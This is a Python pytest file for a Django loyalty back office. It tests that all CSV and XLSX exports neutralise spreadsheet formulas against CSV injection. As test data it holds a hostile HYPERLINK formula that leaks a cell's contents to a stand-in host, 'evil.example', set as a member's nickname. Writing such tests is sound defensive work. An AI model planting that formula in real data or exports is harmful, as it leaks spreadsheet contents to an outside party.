"""Every export of the back office neutralises formulas (CSV injection), through one core function."""

import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.db import transaction
from django.utils import timezone
from openpyxl import load_workbook

from coupons.services import bulk_issue_create, bulk_issue_run
from loyalty.spreadsheets import neutralise, write_xlsx
from mall.models import Redemption
from membership.services import membership_lock
from membership.tiers import growth_post
from stored_value.ledger import stored_value_adjust
from tests.factories import MemberFactory
from tests.factories.coupons import CouponFactory, CouponTemplateFactory
from tests.factories.mall import MallItemFactory
from tests.factories.orders import OrderFactory
from tests.factories.stored_value import RechargeFactory
from tests.helpers import csv_download
from tests.points.helpers import earn, spend

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("default_rules")]

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
QUOTED = "'" + EVIL


def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers():
    assert [neutralise(v) for v in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "a=b", "", "小王")] == [
        "'=1+1",
        "'+1",
        "'-1+1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "a=b",
        "",
        "小王",
    ]
    assert [neutralise(v) for v in ("-25.00", "-7", -7, Decimal("-25.00"), None)] == [
        "-25.00",
        "-7",
        -7,
        Decimal("-25.00"),
        None,
    ]


def test_the_xlsx_writer_neutralises_too_and_writes_no_formula():
    file = io.BytesIO()
    write_xlsx(file, header=["会员", "金额"], rows=[[EVIL, Decimal("-25.00")], ["@x", -7]])
    sheet = load_workbook(io.BytesIO(file.getvalue())).worksheets[0]

    assert list(sheet.iter_rows(values_only=True)) == [("会员", "金额"), (QUOTED, -25), ("'@x", -7)]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "n"}


def test_no_export_writes_a_spreadsheet_but_through_the_core():
    """Every CSV or XLSX the project hands out is written by loyalty/spreadsheets.py (so neutralised there)."""
    root = Path(__file__).resolve().parents[2]
    # What writes one (reading an imported file with csv.reader or openpyxl.load_workbook does not).
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|text/csv|spreadsheetml|Workbook\(|xlsxwriter")
    found = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not {"tests", "bench", ".venv", "migrations"} & set(path.relative_to(root).parts)
        and writers.search(path.read_text())
    )

    assert found == ["loyalty/spreadsheets.py"]


# --- each existing export, with a member who names themselves as a formula ------------------------


@pytest.fixture
def mallory():
    return MemberFactory(nickname=EVIL)


def _points(mallory, admin_user):
    earn(mallory, 100, key="e1")
    spend(mallory, 30, key="s1")
    return "/admin/points/pointsentry/export/", ("积分", "-30")


def _stored_value_entries(mallory, admin_user):
    stored_value_adjust(
        member_id=mallory.pk,
        principal_fen=5_000,
        bonus_fen=0,
        reason="r",
        actor_id=admin_user.pk,
        idempotency_key="a",
    )
    stored_value_adjust(
        member_id=mallory.pk,
        principal_fen=-2_500,
        bonus_fen=0,
        reason="r",
        actor_id=admin_user.pk,
        idempotency_key="b",
    )
    return "/admin/stored_value/storedvalueentry/export/", ("本金部分（元）", "-25.00")


def _recharges(mallory, admin_user):
    RechargeFactory(member=mallory, amount_fen=10_000)
    return "/admin/stored_value/rechargeorder/export/", ("实付金额（元）", "100.00")


def _coupons(mallory, admin_user):
    CouponFactory(member=mallory)
    return "/admin/coupons/coupon/export/", None


def _growth(mallory, admin_user):
    with transaction.atomic():
        membership = membership_lock(member_id=mallory.pk)
        growth_post(
            membership=membership, kind="adjust", amount=50, idempotency_key="g1", counts_at=timezone.now()
        )
        growth_post(
            membership=membership, kind="adjust", amount=-20, idempotency_key="g2", counts_at=timezone.now()
        )
        membership.save(update_fields=["growth_total"])
    return "/admin/membership/growthentry/export/", ("成长值", "-20")


def _orders(mallory, admin_user):
    OrderFactory(member=mallory)
    return "/admin/orders/order/export/", None


def _redemptions(mallory, admin_user):
    item = MallItemFactory()
    Redemption.objects.create(
        no="R1", member=mallory, item=item, kind=item.kind, points=10, status="completed", idempotency_key="k"
    )
    return "/admin/mall/redemption/export/", None


def _bulk_issue_report(mallory, admin_user):
    bulk = bulk_issue_create(
        template_id=CouponTemplateFactory().pk, member_ids=[mallory.pk], actor_id=admin_user.pk
    )
    bulk_issue_run(bulk_issue_id=bulk.pk)
    return f"/admin/coupons/bulkissue/{bulk.pk}/report.csv", None


@pytest.mark.parametrize(
    "setup",
    [
        _points,
        _stored_value_entries,
        _recharges,
        _coupons,
        _growth,
        _orders,
        _redemptions,
        _bulk_issue_report,
    ],
    ids=lambda f: f.__name__.strip("_"),
)
def test_a_nickname_written_as_a_formula_is_quoted_in_every_export(setup, admin_client, admin_user, mallory):
    url, negative = setup(mallory, admin_user)

    _, rows = csv_download(admin_client.get(url))

    assert rows and {row["会员"] for row in rows} == {QUOTED}
    if negative:
        header, value = negative
        assert value in [row[header] for row in rows]  # a negative number stays a number
